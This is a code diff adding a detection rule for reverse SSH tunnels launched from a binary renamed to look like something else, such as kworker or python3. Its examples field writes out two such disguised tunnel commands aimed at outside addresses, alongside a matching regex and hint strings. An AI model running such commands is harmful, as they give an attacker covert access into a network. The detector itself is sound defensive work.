@@ -1,8 +1,12 @@
 """Tunnels made by ssh clients, read from their arguments."""
 
+import re
+
 from apps.detection.argv.invocation import Invocation
 from apps.detection.rules.base import Detail, Rule
 from apps.detection.rules.tunnels.ssh_reading import CLIENTS, SshCall, exposed, read_ssh, split_spec
+
+_FORWARD = re.compile(r"(?:[^\s:]*:)?\d{1,5}:[\w.\-\[\]:]+:\d{1,5}")
 
 
 def _detail(call: SshCall, spec: str) -> Detail:
@@ -65,6 +69,18 @@ def _silent(invocation: Invocation) -> Detail | None:
     }:
         return None
     return {"server": call.host, "port": call.port or 22}
+
+
+def _disguised(invocation: Invocation) -> Detail | None:
+    """Arguments that only an ssh client takes, under a name that is none."""
+    if invocation.program in CLIENTS or not invocation.args:
+        return None
+    call = _call(invocation)
+    if call is None or call.command or not call.flags & {"N", "f"}:
+        return None
+    specs = [spec for spec in call.forwards("R", "remoteforward") if _FORWARD.fullmatch(spec)]
+    sure = "@" in call.host or call.port is not None or bool(call.settings)
+    return _detail(call, specs[0]) | {"program": invocation.program} if specs and sure else None
 
 
 REMOTE_FORWARD = Rule(
@@ -158,4 +174,24 @@ SILENT = Rule(
     match=_silent,
     programs=frozenset({"ssh", "autossh", "dbclient"}),
 )
-RULES = (REMOTE_FORWARD, SOCKS, DEVICE, EXPOSED, SILENT)
+DISGUISED = Rule(
+    slug="ssh-under-another-name",
+    version=1,
+    family="tunnels",
+    behaviour="reverse tunnel",
+    level="critical",
+    technique="T1036.003",
+    title="Reverse SSH tunnel under another name",
+    description=(
+        "A program that is not called ssh has the arguments of one: no command, and a forward from the other "
+        "side into this network."
+    ),
+    false_positives="An own wrapper around ssh that takes the same options.",
+    examples=(
+        "./kworker -N -R 9001:127.0.0.1:8000 eve@198.51.100.7",
+        "./python3 -fN -R 2222:localhost:22 -p 443 203.0.113.47",
+    ),
+    match=_disguised,
+    hints=(":localhost:", ":127.0.0.1:", ":10.", ":192.168.", ":172."),
+)
+RULES = (REMOTE_FORWARD, DISGUISED, SOCKS, DEVICE, EXPOSED, SILENT)
